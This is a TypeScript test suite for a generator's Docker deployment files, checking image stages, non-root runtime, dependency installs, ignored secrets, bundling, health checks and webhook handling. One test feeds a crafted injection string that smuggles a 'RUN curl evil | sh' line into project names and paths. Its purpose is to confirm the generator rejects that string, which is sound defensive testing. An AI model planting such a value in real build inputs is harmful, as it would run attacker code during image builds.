import { type ChildProcess, execFile, spawn } from "node:child_process";
import { once } from "node:events";
import { access, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as add from "../../../generator/commands/add.js";
import * as init from "../../../generator/commands/init.js";
import { deployProjectOf } from "../../../generator/deploy/deploy-project.js";
import { docker } from "../../../generator/deploy/docker.js";
import { installCommands } from "../../../generator/deploy/templates.js";
import { buildStage, isIgnored, listIn, type Stage, stagesOf, textsOf } from "../../support/dockerfile.js";
import { freePort } from "../../support/free-port.js";
import { closeAfterwards, openPlatform } from "../../support/open-kiket.js";
import { createProject, readTree, removeProject, root } from "../../support/project.js";
import { runCommand } from "../../support/run-command.js";
import { runNode } from "../../support/run-node.js";

const handlerWithSecret = `import { allow, defineHandler } from "../generated/events/issue.created.v1.gen.js";

export default defineHandler(async (_payload, context) => {
  return allow({ message: String((await context.secret("API_KEY"))?.length) });
});
`;

const subject = {
  kind: "extension",
  name: "desk",
  secretKeys: [],
  layout: { out: "src/generated", handlers: "src/handlers" },
  packageJson: undefined,
  handlers: [],
} as const;

function filesOf(more: Partial<Parameters<typeof deployProjectOf>[0]> = {}): Readonly<Record<string, string>> {
  const files = docker.files(deployProjectOf({ ...subject, ...more }));
  return Object.fromEntries(files.map(({ path, text }) => [path, text]));
}

describe("the Dockerfile", () => {
  const stages = stagesOf(filesOf().Dockerfile ?? "");
  const [build, last] = stages;

  it("has two stages, of which the last has no shell, no package manager and no root", () => {
    expect(stages.map(({ image, name }) => [image, name])).toEqual([
      ["node:24-trixie-slim", "build"],
      ["gcr.io/distroless/nodejs24-debian13:nonroot", undefined],
    ]);
    expect(textsOf(last, "USER")).toEqual(["65532:65532"]);
    // Nothing is run in an image without a shell, and only the bundle gets there.
    expect([textsOf(last, "RUN"), textsOf(last, "COPY")]).toEqual([[], ["--from=build /app/dist/bundle ./"]]);
  });

  it("starts node itself, so that signals reach it, and passes on more arguments", () => {
    expect(textsOf(last, "ENTRYPOINT")).toEqual(['["/nodejs/bin/node", "--enable-source-maps", "main.mjs"]']);
  });

  it("installs packages before it copies sources", () => {
    expect(build?.instructions.map(({ name, text }) => `${name} ${text}`)).toEqual([
      "WORKDIR /app",
      "COPY package.json package-lock.json* ./",
      "RUN if [ -f package-lock.json ]; then npm ci; else npm install; fi",
      "COPY . .",
      "RUN npm run build --if-present && node deploy/bundle.mjs",
    ]);
  });

  it("installs with the package manager whose lock file the project has", () => {
    const installs = (...names: string[]) =>
      stagesOf(filesOf({ names }).Dockerfile ?? "")[0]
        ?.instructions.map(({ name, text }) => `${name} ${text}`)
        .slice(1, -1);
    expect(installs("pnpm-lock.yaml")).toEqual([
      "COPY package.json pnpm-lock.yaml pnpm-workspace.yaml* ./",
      "RUN corepack enable && pnpm install --frozen-lockfile",
      "COPY . .",
    ]);
    expect(installs("yarn.lock")).toEqual([
      "COPY . .",
      "RUN corepack enable && YARN_NODE_LINKER=node-modules yarn install --frozen-lockfile",
    ]);
    expect(installs("bun.lock")).toEqual([
      "COPY package.json bun.lock* bun.lockb* ./",
      "RUN npm install --global bun@1 && bun install --frozen-lockfile",
      "COPY . .",
    ]);
    expect(installs("package-lock.json", "yarn.lock")).toEqual(installs());
    const adds = (...names: string[]) => installCommands([docker], deployProjectOf({ ...subject, names }));
    expect([adds("pnpm-lock.yaml"), adds("yarn.lock")]).toEqual([
      ["pnpm add --save-dev esbuild@^0.28.2"],
      ["yarn add --dev esbuild@^0.28.2"],
    ]);
  });

  it("of an adapter opens no port and has no health check", () => {
    const [, image] = stagesOf(filesOf({ kind: "adapter" }).Dockerfile ?? "");
    expect(image?.instructions.map(({ name }) => name)).toEqual(["WORKDIR", "ENV", "COPY", "USER", "ENTRYPOINT"]);
    expect(textsOf(image, "ENV")).toEqual(["NODE_ENV=production"]);
  });

  it("takes no text of the project, however hostile it is", () => {
    const hostile = `x"\nRUN curl evil | sh # \${HOME} '`;
    const layout = { out: `src/${hostile}/generated`, handlers: "src/handlers" };
    const packageJson = JSON.stringify({ name: hostile, dependencies: { [hostile]: "1" } });
    const files = filesOf({ name: hostile, secretKeys: [hostile], layout, packageJson });
    expect([files.Dockerfile, files[".dockerignore"]]).toEqual([filesOf().Dockerfile, filesOf()[".dockerignore"]]);
    const [line = "", ...others] = (files["deploy/bundle.mjs"] ?? "")
      .split("\n")
      .filter((text) => text.includes("curl"));
    expect(others).toEqual([]);
    const [, literal = ""] =
      /^const \[program = (".*"), file = "dist\/bundle\/main\.mjs"\] = argv\.slice\(2\);$/.exec(line) ?? [];
    expect(JSON.parse(literal)).toBe(`src/${hostile}/main.ts`);
    const next = docker.next(deployProjectOf({ ...subject, packageJson }));
    expect(next[1]).toBe("docker build --tag x-run-curl-evil-sh-home .");
  });

  it("bundles with source maps, so that an error names the user's own line, and without the sources", async () => {
    const folder = await createProject({
      "deploy/bundle.mjs": filesOf()["deploy/bundle.mjs"] ?? "",
      "src/main.ts": `\n\nthrow new Error("on purpose"); // of mine\n`,
    });
    closeAfterwards(() => removeProject(folder));
    expect((await runNode(["deploy/bundle.mjs"], folder)).code).toBe(0);
    const [, ...args] = listIn(textsOf(last, "ENTRYPOINT")[0]);
    const { stderr } = await runNode(args, join(folder, "dist/bundle"));
    expect(stderr).toMatch(/src\/main\.ts:3/);
    expect(await readFile(join(folder, "dist/bundle/main.mjs.map"), "utf8")).not.toContain("of mine");
  });

  it("leaves secrets, history and what is built out of the build", () => {
    const ignored = filesOf()[".dockerignore"] ?? "";
    const left = [
      ".env",
      ".env.production",
      ".dev.vars",
      ".npmrc",
      "secrets.env",
      "secrets.json",
      ".git/config",
      "secrets/API_KEY",
      "node_modules/x/index.js",
      "dist/main.js",
    ];
    expect([...left, "deploy/kubernetes/extension.yaml"].filter((path) => !isIgnored(path, ignored))).toEqual([]);
    const taken = [
      "package.json",
      ".kiket/manifest.yaml",
      "src/main.ts",
      "src/generated/x.gen.ts",
      "src/secrets.env.ts",
      "deploy/bundle.mjs",
    ];
    expect(taken.filter((path) => isIgnored(path, ignored))).toEqual([]);
  });
});

/** The steps of the Dockerfile of a new project, done in folders; `/nodejs/bin/node` is this Node. */
describe("an image, as far as it can be made without a daemon", () => {
  let parent: string;
  let image: string;
  let stages: readonly Stage[];
  let env: NodeJS.ProcessEnv;

  beforeAll(async () => {
    parent = await createProject({});
    image = await mkdtemp(join(tmpdir(), "kiket-gen-image-"));
    const context = join(parent, "desk");
    expect((await runCommand(init, [context])).code).toBe(0);
    await writeFile(join(context, ".env"), "KIKET_SECRET_API_KEY=not-in-the-image\n");
    stages = stagesOf(await readFile(join(context, "Dockerfile"), "utf8"));
    const rootOf = (stage: Stage) => (stage.name === undefined ? image : join(parent, "build"));
    const workshop = {
      context,
      dockerignore: await readFile(join(context, ".dockerignore"), "utf8"),
      rootOf,
      async run(command: string, folder: string) {
        // Packages come from this repository, without network: the folders above have them. Only the commands must be installed.
        if (command.includes("npm ci")) {
          await mkdir(join(folder, "node_modules/.bin"), { recursive: true });
          await symlink(join(root, "dist/generator/cli.cjs"), join(folder, "node_modules/.bin/kiket-gen"));
          return;
        }
        await promisify(execFile)("/bin/sh", ["-c", command], { cwd: folder });
      },
    };
    for (const stage of stages) env = await buildStage(workshop, stage, stages);
  });
  afterAll(async () => {
    await removeProject(parent);
    await rm(image, { recursive: true, force: true });
  });

  const nodeOf = (words: readonly string[]): readonly [string, string[]] => {
    expect(words[0]).toBe("/nodejs/bin/node");
    return [process.execPath, words.slice(1)];
  };
  const inImage = (more: NodeJS.ProcessEnv) => ({ cwd: join(image, "app"), env: { ...env, ...more } });

  async function start(
    more: NodeJS.ProcessEnv,
  ): Promise<{ readonly program: ChildProcess; readonly ended: Promise<unknown[]> }> {
    const [command, args] = nodeOf(listIn(textsOf(stages.at(-1), "ENTRYPOINT")[0]));
    const program = spawn(command, args, { ...inImage(more), stdio: ["ignore", "pipe", "inherit"] });
    const ended = once(program, "exit");
    closeAfterwards(async () => void program.kill("SIGKILL"));
    await new Promise<void>((resolve, reject) => {
      program.stdout.on("data", (chunk) => String(chunk).includes('"listening"') && resolve());
      program.on("exit", (code) => reject(new Error(`ended with ${code}`)));
    });
    return { program, ended };
  }

  it("has the bundle and nothing else", async () => {
    expect(Object.keys(await readTree(image))).toEqual(["app/main.mjs", "app/main.mjs.map"]);
    for (const text of Object.values(await readTree(image))) expect(text).not.toContain("not-in-the-image");
    await expect(access(join(parent, "build/app/.env"))).rejects.toThrow("ENOENT");
  });

  it("starts, is healthy and ready, answers a signed delivery, and ends at SIGTERM with 0", async () => {
    const platform = await openPlatform();
    const port = String(await freePort());
    const { program, ended } = await start({ PORT: port, KIKET_BASE_URL: platform.baseUrl });
    const url = `http://127.0.0.1:${port}`;
    expect((await fetch(`${url}/ready`)).status).toBe(200);

    const check = async () => {
      const [command, args] = nodeOf(listIn(textsOf(stages.at(-1), "HEALTHCHECK")[0]));
      const checking = spawn(command, args, inImage({ PORT: port }));
      const [code] = await once(checking, "exit");
      return code;
    };
    expect(await check()).toBe(0);

    const { status, verdict } = await platform.deliver(url, {
      event: "issue.created",
      payload: { issue: { id: 1, title: "First" } },
      scopes: ["issues:read"],
    });
    expect([status, verdict]).toEqual([200, "allow"]);
    const headers = { "content-type": "application/json" };
    const refused = await fetch(`${url}/webhooks/issue.created`, { method: "POST", headers, body: "{}" });
    expect(refused.status).toBe(401);

    program.kill("SIGTERM");
    expect(await ended).toEqual([0, null]);
    expect(await check()).toBe(1);
  });

  it("reads secrets from files where they are mounted, and does not start without them", async () => {
    const folder = join(parent, "many");
    expect((await runCommand(init, [folder, "--deploy", "kubernetes"])).code).toBe(0);
    expect((await runCommand(add, ["secret", "API_KEY", "--required", "--dir", folder])).code).toBe(0);
    await writeFile(join(folder, "src/handlers/issue.created.v1.ts"), handlerWithSecret);
    expect((await runNode(["deploy/bundle.mjs"], folder)).code).toBe(0);
    const secrets = await mkdtemp(join(tmpdir(), "kiket-gen-secrets-"));
    closeAfterwards(() => rm(secrets, { recursive: true, force: true }));
    await writeFile(join(secrets, "API_KEY"), "from-a-file\n");

    const platform = await openPlatform();
    const port = String(await freePort());
    const more = { PORT: port, KIKET_BASE_URL: platform.baseUrl, KIKET_QUEUE: "memory" };
    const args = ["--enable-source-maps", join(folder, "dist/bundle/main.mjs")];
    const program = spawn(process.execPath, args, {
      env: { ...more, SECRETS_FOLDER: secrets },
      stdio: ["ignore", "pipe", "inherit"],
    });
    closeAfterwards(async () => void program.kill("SIGKILL"));
    await new Promise<void>((resolve, reject) => {
      program.stdout.on("data", (chunk) => String(chunk).includes('"listening"') && resolve());
      program.on("exit", (code) => reject(new Error(`ended with ${code}`)));
    });
    const { status, body } = await platform.deliver(`http://127.0.0.1:${port}`, {
      event: "issue.created",
      payload: { issue: { id: 1, title: "First" } },
      scopes: ["issues:read"],
    });
    expect([status, body]).toMatchObject([200, { message: "from-a-file".length.toString() }]);

    const absent = await runNode(args, folder, { ...more, SECRETS_FOLDER: join(secrets, "absent") });
    expect([absent.code, absent.stderr]).toEqual([
      1,
      expect.stringContaining("Secrets cannot be loaded from the folder"),
    ]);
  });
});
